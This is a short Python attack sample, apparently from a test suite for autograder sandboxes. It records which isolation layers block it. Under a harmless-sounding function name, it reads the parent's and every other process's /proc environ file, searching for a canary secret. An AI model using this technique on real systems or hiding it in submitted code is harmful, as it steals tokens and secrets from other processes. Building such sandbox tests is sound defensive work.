"""Read the environment of every process that /proc shows: tokens and secrets are often kept there.

Seen: catalogue 8 (zmievsa/autograder #39, PrairieLearn #6990).
"""

# /// attack
# exercise = "02_cell/quiz"
# stopped_by = { full = "namespaces", landlock = "Landlock", none = "judging" }
# gets_through = ["none"]
# ///

import os


def number_of_parameters() -> None:
    with open(f"/proc/{os.getppid()}/environ", "rb"):
        pass
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                text = file.read()
        except OSError:
            continue
        place = text.find(b"canary-environment")
        if place >= 0:
            print("got:", text[place : place + 60])
